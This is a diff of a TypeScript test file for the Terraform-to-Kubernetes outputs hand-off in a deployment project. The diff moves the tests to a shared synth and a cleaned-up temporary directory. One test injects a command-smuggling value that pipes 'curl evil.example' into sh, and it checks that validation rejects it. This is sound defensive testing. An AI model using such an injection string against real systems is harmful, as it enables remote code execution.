@@ -1,12 +1,11 @@
-import { existsSync, mkdtempSync } from 'fs';
+import { existsSync, mkdtempSync, rmSync } from 'fs';
 import { tmpdir } from 'os';
 import { join } from 'path';
 import { DeployOutputs } from '../../lib/core/deploy-outputs';
 import { PlatformValidationError } from '../../lib/core/validation';
 import { synthKubernetes } from '../../lib/platform/kubernetes/synth-kubernetes';
 import { environments } from '../../stacks/environments';
-import { synthTerraform } from '../../lib/platform/terraform/synth-terraform';
-import { ExampleSynth, readTree } from '../support/example-synth';
+import { placeholdersOf, sharedSynth } from '../support/example-synth';
 import { loadYamlDir } from '../support/k8s-schema';
 
 /** A value of the kind the output holds, as Terraform would write it. */
@@ -25,20 +24,15 @@ function thrown(run: () => unknown): unknown {
   return undefined;
 }
 
-/** The example environments synthesized in this process, so the outputs object records every placeholder. */
-function synthExample(outputs: DeployOutputs): ExampleSynth {
-  const dir = mkdtempSync(join(tmpdir(), 'ml-mesh-example-'));
-  const stacks = synthTerraform(environments, { outdir: join(dir, 'cdktf.out') });
-  synthKubernetes(environments, { outdir: join(dir, 'dist'), outputs });
-  return { dir, files: readTree(dir), stacks, outputs };
-}
-
 // The deploy flow: synth for review writes placeholders; after `cdktf apply`, the outputs file fills them in and
 // strict mode proves none is left.
 
 describe('the outputs hand-off from Terraform to the Kubernetes synth', () => {
-  const review = synthExample(DeployOutputs.none());
-  const placeholders = review.outputs.placeholders;
+  // The review synth of the examples is the shared one (without an outputs file); the strict runs synthesize here.
+  const review = sharedSynth();
+  const placeholders = placeholdersOf(review, environments);
+  const work = mkdtempSync(join(tmpdir(), 'ml-mesh-outputs-'));
+  afterAll(() => rmSync(work, { recursive: true, force: true }));
 
   test('review synth names every value it could not know, with the stack and output that provide it', () => {
     expect(placeholders.map((p) => `${p.stack}.${p.output}`)).toEqual([
@@ -47,7 +41,8 @@ describe('the outputs hand-off from Terraform to the Kubernetes synth', () => {
       'prod-azure.feature_secrets_client_id',
       'prod-gcp.azureml_app_id_uri',
     ]);
-    const yaml = Object.entries(review.files).filter(([f]) => f.startsWith('dist/')).map(([, text]) => text).join('\n');
+    const folders = environments.map((env) => `dist/${env.name}/`);
+    const yaml = Object.entries(review.files).filter(([f]) => folders.some((folder) => f.startsWith(folder))).map(([, text]) => text).join('\n');
     for (const p of placeholders) expect(yaml).toContain(p.text);
   });
 
@@ -61,7 +56,7 @@ describe('the outputs hand-off from Terraform to the Kubernetes synth', () => {
   test('with the outputs file, strict synth succeeds and writes the real values', () => {
     const file: Record<string, Record<string, string>> = {};
     for (const p of placeholders) (file[p.stack] ??= {})[p.output] = valueOf(p.output);
-    const outdir = join(review.dir, 'strict');
+    const outdir = join(work, 'strict');
     const outputs = DeployOutputs.fromObject(file, true);
     synthKubernetes(environments, { outdir, outputs });
     expect(outputs.placeholders).toEqual([]);
@@ -78,7 +73,7 @@ describe('the outputs hand-off from Terraform to the Kubernetes synth', () => {
     const file: Record<string, Record<string, string>> = {};
     for (const p of placeholders) (file[p.stack] ??= {})[p.output] = valueOf(p.output);
     file['prod-azure'].feature_secrets_client_id = value;
-    const outdir = join(review.dir, 'bad-value');
+    const outdir = join(work, 'bad-value');
     const error = thrown(() => synthKubernetes(environments, { outdir, outputs: DeployOutputs.fromObject(file, true) }));
     expect(error).toBeInstanceOf(PlatformValidationError);
     expect((error as PlatformValidationError).issues).toEqual([expect.objectContaining({ field: 'prod-azure.feature_secrets_client_id', value, rule: expect.stringContaining(rule) })]);
@@ -89,12 +84,12 @@ describe('the outputs hand-off from Terraform to the Kubernetes synth', () => {
     const file: Record<string, Record<string, string>> = {};
     for (const p of placeholders) (file[p.stack] ??= {})[p.output] = valueOf(p.output);
     file['prod-gcp'].azureml_app_id_uri = 'api://x"; curl evil.example | sh; echo "';
-    expect(() => synthKubernetes(environments, { outdir: join(review.dir, 'bad-uri'), outputs: DeployOutputs.fromObject(file, true) }))
+    expect(() => synthKubernetes(environments, { outdir: join(work, 'bad-uri'), outputs: DeployOutputs.fromObject(file, true) }))
       .toThrow(/prod-gcp\.azureml_app_id_uri = .*must be an App ID URI, api:\/\/<client id>/);
   });
 
   test('strict synth without the outputs file fails, listing each missing value', () => {
-    const outdir = join(review.dir, 'strict-missing');
+    const outdir = join(work, 'strict-missing');
     expect(() => synthKubernetes(environments, { outdir, outputs: DeployOutputs.fromObject({}, true) }))
       .toThrow(/strict mode: 4 value\(s\) missing[\s\S]*prod-azure\.feature_secrets_client_id/);
     expect(existsSync(outdir)).toBe(false);
